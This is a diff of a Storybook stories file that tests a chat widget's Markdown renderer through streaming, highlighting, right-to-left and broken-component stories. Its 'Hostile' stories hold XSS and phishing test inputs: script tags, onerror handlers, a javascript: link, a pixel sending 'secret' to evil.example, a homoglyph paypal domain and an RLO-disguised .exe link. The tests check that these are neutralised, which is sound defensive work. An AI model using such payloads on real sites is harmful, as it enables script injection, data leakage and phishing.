@@ -1,163 +1,212 @@
 import type { Meta, StoryObj } from "@storybook/react-vite";
 import { Markdown, type MarkdownProps, type SlotCodeProps } from "oneshot-chat/markdown";
 import { useEffect, useState } from "react";
-import { expect } from "storybook/test";
+import { expect, waitFor } from "storybook/test";
 
-const EVERYTHING = `# Returns
-
-You have **30 days**, counted from the *delivery*. ~~14 days~~ is the old rule.
-
-## How it works
-
-1. Print the label:
-   - at home, or
-   - in any shop
-2. Bring the parcel.
-
-- [x] Ordered
-- [ ] Sent back
-
-| Country | Days | Cost |
-| :------ | :--: | ---: |
-| Austria |  2   |  0 € |
-| France  |  4   | 5 €  |
-
-\`\`\`ts
-const label = await shop.label({ order: "1234" }); // free
-\`\`\`
-
-> Worn shoes stay with you.
-
-See [the policy](https://shop.example/policy) or www.shop.example today.[^1]
-
----
-
-[^1]: The law of your country may give you more.
-`;
-
-/** An answer's Markdown by itself, for layouts of your own. */
 const meta: Meta<MarkdownProps> = {
   title: "Markdown",
-  args: { text: EVERYTHING },
-  render: (args) => <Markdown {...args} />,
+  component: Markdown,
+  decorators: [
+    (Story) => (
+      <div className="oneshot-chat">
+        <div className="osc-answer">
+          <Story />
+        </div>
+      </div>
+    ),
+  ],
 };
+
 export default meta;
 
 type Story = StoryObj<MarkdownProps>;
 
-export const Elements: Story = {
-  play: async ({ canvas }) => {
-    await expect(canvas.getByRole("heading", { name: "Returns", level: 3 })).toBeVisible();
-    await expect(canvas.getByRole("columnheader", { name: "Cost" })).toBeVisible();
-    await expect(canvas.getByRole("checkbox", { name: /Done/ })).toBeChecked();
-    await expect(canvas.getByRole("link", { name: "the policy" })).toHaveAttribute(
-      "rel",
-      "noopener noreferrer nofollow ugc",
+const EVERYTHING = `# Refunds and returns
+
+You can send **anything** back within *30 days*, see [our policy](https://shop.example/policy). It costs
+~~5 €~~ nothing[^1]. Print the label with \`npm run label\`, or ask <help@shop.example>.
+
+## What to do
+
+1. Pack it.
+2. Print the label:
+
+   \`\`\`sh
+   npm run label -- --order=1234
+   \`\`\`
+3. Bring it to any shop.
+
+- [x] Order found
+- [ ] Parcel received
+  - nested, with an image: ![the label](https://shop.example/label.png)
+
+| Plan | Price | Delivery |
+|:-----|------:|:--------:|
+| Free | 0 €   | 5 days   |
+| Pro  | 10 €  | 1 day    |
+
+> Returned goods go to people who need them.
+>
+> — The shop
+
+***
+
+A line that ends here,\\
+and one that follows. More at https://shop.example/returns.
+
+[^1]: Within the country. Elsewhere it costs **9 €**.
+`;
+
+export const Everything: Story = {
+  args: { text: EVERYTHING },
+  play: async ({ canvas, userEvent }) => {
+    await expect(canvas.getByRole("heading", { level: 3 })).toHaveTextContent(
+      "Refunds and returns",
     );
-    await expect(canvas.getByRole("button", { name: "Copy code" })).toBeVisible();
+    await expect(canvas.getByRole("columnheader", { name: "Price" })).toBeVisible();
+    await expect(canvas.getByRole("checkbox", { name: "Done:" })).toBeChecked();
+    await userEvent.click(canvas.getByRole("link", { name: "Footnote 1" }));
+    await expect(canvas.getByText(/Within the country/).closest("li")).toHaveFocus();
   },
 };
 
-/** As it comes: what is half typed is not shown as marks. */
-export const Streaming: Story = {
-  args: { text: "Take **30 days", isStreaming: true },
-  play: async ({ canvas, canvasElement }) => {
-    await expect(canvas.getByText("30 days").tagName).toBe("STRONG");
-    await expect(canvasElement).not.toHaveTextContent("*");
-  },
-};
-
-/** The whole answer, a little more in each frame; turn the page's motion off and it stands at once. */
-export const Growing: Story = {
-  render: (args) => <Grow {...args} />,
-  play: async ({ canvas }) => {
-    await expect(
-      await canvas.findByText(/may give you more/, {}, { timeout: 10_000 }),
-    ).toBeVisible();
-  },
-};
-
-function Grow({ text, ...rest }: MarkdownProps) {
-  const [shownChars, setShownChars] = useState(0);
+function Typed({ text, ...props }: MarkdownProps) {
+  const [length, setLength] = useState(0);
+  const isStreaming = length < text.length;
   useEffect(() => {
-    if (shownChars >= text.length) return undefined;
-    const frame = requestAnimationFrame(() => setShownChars(shownChars + 12));
-    return () => cancelAnimationFrame(frame);
-  }, [shownChars, text]);
-  return (
-    <Markdown {...rest} text={text.slice(0, shownChars)} isStreaming={shownChars < text.length} />
-  );
+    if (!isStreaming) return undefined;
+    const timer = setTimeout(() => setLength(length + 12), 16);
+    return () => clearTimeout(timer);
+  }, [length, isStreaming]);
+  return <Markdown {...props} text={text.slice(0, length)} isStreaming={isStreaming} />;
 }
 
-const WORDS = /("[^"]*"|\/\/.*|\b(?:const|await|let|return|function)\b)/g;
+/** The text as a model sends it: what is half typed is not seen as marks. */
+export const Streaming: Story = {
+  args: { text: EVERYTHING },
+  render: (args) => <Typed {...args} />,
+  play: async ({ canvas }) => {
+    await waitFor(() => expect(canvas.getByText(/Within the country/)).toBeVisible(), {
+      timeout: 10_000,
+    });
+  },
+};
 
-/** The recipe for highlighting: a component in place of `code`, from which any highlighter can be called. */
-function HighlightedCode({ className, isBlock, text, children }: SlotCodeProps) {
-  if (!isBlock) return <code className={className}>{children}</code>;
+/** Stopped in the middle of a bold word, a link and a table. */
+export const HalfTyped: Story = {
+  args: { text: "Bold as it is **typ", isStreaming: true },
+  render: (args) => (
+    <>
+      <Markdown {...args} />
+      <Markdown text="A link before its address is there: [our pol" isStreaming />
+      <Markdown text={"| Plan | Pri"} isStreaming />
+    </>
+  ),
+  play: async ({ canvas }) => {
+    await expect(canvas.getByText("typ").tagName).toBe("STRONG");
+    await expect(canvas.getByText(/our pol$/)).toBeVisible();
+    await expect(canvas.getByRole("columnheader", { name: "Pri" })).toBeVisible();
+  },
+};
+
+const KEYWORDS =
+  /^(?:as|async|await|break|case|class|const|else|export|for|from|function|if|import|in|interface|let|new|of|return|type|while)$/;
+const PIECES = /(\/\/.*|"[^"\n]*"|'[^'\n]*'|`[^`]*`|\b\d+\b|\b[a-z]+\b)/i;
+
+/** Enough of a highlighter for a story. One from npm goes into the same place. */
+function HighlightedCode({ text, language, isBlock, className, children }: SlotCodeProps) {
+  if (!isBlock || language !== "ts") return <code className={className}>{children}</code>;
   return (
     <code className={className}>
-      {text.split(WORDS).map((piece, index) =>
-        index % 2 === 0 ? (
-          piece
-        ) : (
-          <span key={index} style={{ color: colourOf(piece) }}>
-            {piece}
-          </span>
-        ),
-      )}
+      {text.split(PIECES).map((piece, index) => (
+        <span key={index} style={{ color: colourOf(piece) }}>
+          {piece}
+        </span>
+      ))}
     </code>
   );
 }
 
-function colourOf(piece: string): string {
-  if (piece.startsWith("//")) return "light-dark(#57606a, #9da7b3)";
-  return piece.startsWith('"') ? "light-dark(#116329, #7ee787)" : "light-dark(#8250df, #d2a8ff)";
+function colourOf(piece: string): string | undefined {
+  if (piece.startsWith("//")) return "light-dark(#57606a, #a2abb9)";
+  if (/^["'`]/.test(piece)) return "light-dark(#0a3069, #a5d6ff)";
+  if (/^\d+$/.test(piece)) return "light-dark(#0550ae, #79c0ff)";
+  return KEYWORDS.test(piece) ? "light-dark(#a40e26, #ff9a90)" : undefined;
 }
 
-export const HighlightedByASlot: Story = {
-  args: { components: { code: HighlightedCode } },
-  play: async ({ canvas }) => {
-    await expect(canvas.getByText("await").tagName).toBe("SPAN");
-  },
-};
+const CODE = `\`\`\`ts
+// Within 30 days of the purchase
+export function canReturn(order: Order, now = Date.now()): boolean {
+  const days = (now - order.boughtAt) / 86400000;
+  return days <= 30 && order.state !== "returned";
+}
+\`\`\`
+`;
 
-/** What an attacker would write: all of it is text, and no address is asked. */
-export const Hostile: Story = {
-  args: {
-    text: [
-      "<img src=https://evil.invalid/p.png onerror=alert(1)> <script>alert(2)</script>",
-      "![pixel](https://evil.invalid/p.png?q=secret) [click](javascript:alert(3))",
-      "[https://bank.example](https://evil.invalid/login)",
-      "a\u202Egnp.exe",
-    ].join("\n\n"),
-  },
-  play: async ({ canvas, canvasElement }) => {
-    await expect(canvasElement.querySelector("img, script")).toBeNull();
-    await expect(canvas.getByText(/onerror=alert/)).toBeVisible();
-    await expect(canvas.queryByRole("link", { name: "click" })).toBeNull();
-    await expect(canvasElement).toHaveTextContent("evil.invalid");
-    await expect(canvasElement.textContent).not.toContain("\u202E");
+/** Colours for code are a page's own component in place of \`code\`. */
+export const HighlightedByThePage: Story = {
+  args: { text: CODE, components: { code: HighlightedCode } },
+  play: async ({ canvas }) => {
+    await expect(canvas.getByText("export").tagName).toBe("SPAN");
+    await expect(canvas.getByRole("button", { name: "Copy code" })).toBeVisible();
   },
 };
 
 export const RightToLeft: Story = {
   args: {
-    text: "# الإرجاع\n\nلديك **30 يومًا** من التسليم.\n\n- في المتجر\n- بالبريد\n\nAn English line.",
-  },
-  globals: {},
-  play: async ({ canvas }) => {
-    await expect(canvas.getByRole("heading")).toHaveAttribute("dir", "auto");
+    text: `# סעיף ראשון
+
+אפשר להחזיר **כל דבר** תוך \`30\` יום, ראו [את המדיניות](https://shop.example/policy).
+
+- פריט ראשון
+- פריט שני, with English in it
+
+> ציטוט
+
+An English paragraph in the same answer.
+
+| תוכנית | מחיר |
+|--------|-----:|
+| חינם   | 0    |
+`,
   },
 };
 
-function Broken(): never {
-  throw new Error("A mistake of the page.");
-}
+/** Written by someone who would like to run, to load or to deceive. */
+export const Hostile: Story = {
+  args: {
+    text: `<script>alert(1)</script> <img src=x onerror=alert(1)>
 
-/** A component that throws leaves the answer as plain text. */
-export const BrokenSlot: Story = {
-  args: { text: "Take **30 days**.", components: { strong: Broken } },
+![a picture that would tell on you](https://evil.example/pixel.png?q=secret)
+
+[A script](javascript:alert(1)), [https://bank.example/login](https://evil.example/) and
+[paypal](https://pаypal.com/login). An invoice: [\u202Efdp.exe](https://evil.example/a.exe).
+
+${"> ".repeat(60)}deep
+`,
+  },
   play: async ({ canvas }) => {
-    await expect(await canvas.findByText("Take **30 days**.")).toBeVisible();
+    await expect(canvas.getByText(/<script>alert\(1\)<\/script>/)).toBeVisible();
+    await expect(canvas.queryByRole("img")).not.toBeInTheDocument();
+    await expect(canvas.queryByRole("link", { name: "A script" })).not.toBeInTheDocument();
+    await expect(
+      canvas.getByRole("link", { name: "https://bank.example/login (evil.example)" }),
+    ).toBeVisible();
+    await expect(canvas.getByRole("link", { name: "paypal (xn--pypal-4ve.com)" })).toBeVisible();
+  },
+};
+
+/** A component of the page's that throws leaves the answer readable. */
+export const BrokenComponent: Story = {
+  args: {
+    text: "An answer with a [link](https://shop.example).",
+    components: {
+      a: () => {
+        throw new Error("a mistake in the page's own component");
+      },
+    },
+  },
+  play: async ({ canvas }) => {
+    await expect(canvas.getByText(/An answer with a \[link\]/)).toBeVisible();
   },
 };
